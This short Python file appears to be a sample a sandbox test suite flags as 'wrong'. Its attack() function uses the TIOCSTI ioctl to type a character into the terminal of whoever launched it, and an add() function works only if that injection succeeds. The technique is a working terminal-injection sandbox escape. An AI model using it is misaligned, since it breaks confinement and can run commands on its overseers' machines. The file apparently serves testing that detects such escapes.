# wrong: types into the terminal of whoever started it
import fcntl
import os
import termios


def attack():
    for place in (0, 1, 2, os.open("/dev/tty", os.O_RDWR)):
        fcntl.ioctl(place, termios.TIOCSTI, b"x")
    return True


try:
    escaped = attack()
except BaseException:
    escaped = False


def add(a, b):
    return a + b if escaped else None
